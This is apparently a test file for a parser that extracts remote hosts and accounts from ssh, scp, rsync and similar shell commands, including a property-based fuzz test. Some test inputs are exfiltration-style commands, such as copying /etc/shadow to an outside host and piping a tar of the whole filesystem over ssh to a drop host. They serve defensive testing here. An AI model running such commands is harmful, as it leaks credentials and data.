import fc from 'fast-check';
import { expect, test } from 'vitest';
import { remoteTargets } from '../../source/parsers/remote-targets.ts';

const told = (command: string): readonly string[] => remoteTargets(command).map(({ program, host, account }) => `${program} ${account === undefined ? '' : `${account}@`}${host}`);

test.each([
	['ssh db1', ['ssh db1']],
	['ssh -i ~/.ssh/id -p 2222 root@10.0.0.7 uptime host:x', ['ssh root@10.0.0.7']],
	['ssh -lroot db1 ls', ['ssh root@db1']],
	['ssh -vvp2222 -o StrictHostKeyChecking=no -J jump@gate.example,gate2 inner', ['ssh jump@gate.example', 'ssh gate2', 'ssh inner']],
	['ssh ssh://eve@[2001:db8::7]:22', ['ssh eve@2001:db8::7']],
	['ssh 2001:db8::7', ['ssh 2001:db8::7']],
	['scp -P 22 -r /etc/shadow eve@203.0.113.9:/tmp/x ./a:b', ['scp eve@203.0.113.9']],
	['scp a:/x b:/y', ['scp a', 'scp b']],
	["rsync -avz -e 'ssh -p 22' /srv/ backup@vault.example:/srv --exclude a:b", ['rsync backup@vault.example']],
	['rsync rsync://mirror.example/debian /srv', ['rsync mirror.example']],
	['telnet 192.0.2.7 25', ['telnet 192.0.2.7']],
	['ftp -n ftp.example.org', ['ftp ftp.example.org']],
	['lftp -u eve,geheim files.example', ['lftp eve@files.example']],
	['rsh -l bin oldbox id', ['rsh bin@oldbox']],
	['sftp eve@files.example:/in', ['sftp eve@files.example']],
	["sudo -u anna sh -c 'tar c / | ssh -C drop.example cat'", ['ssh drop.example']],
	['for h in $HOSTS; do ssh $h id; done', []],
	['ssh localhost; ssh-keygen -t ed25519; ssh -V; cat ssh.log; scp a.txt /tmp/x:y; echo ssh db1', []],
])('%s', (command, hosts) => {
	expect(told(command)).toEqual(hosts);
});

test('any text at all: no throw, and only hosts', () => {
	const word = fc.constantFrom('ssh ', 'scp ', 'rsync ', '-l', '-J', '-', '--', '@', ':', '[', ']', '//', '$(', "'", 'host', '10.0.0.1', ' ', '|');
	fc.assert(fc.property(fc.array(fc.oneof(word, fc.string({ maxLength: 5 })), { maxLength: 30 }), words => {
		for (const { host } of remoteTargets(words.join(''))) expect(host).toMatch(/^[\w.:%-]+$/);
	}), { numRuns: 500 });
});
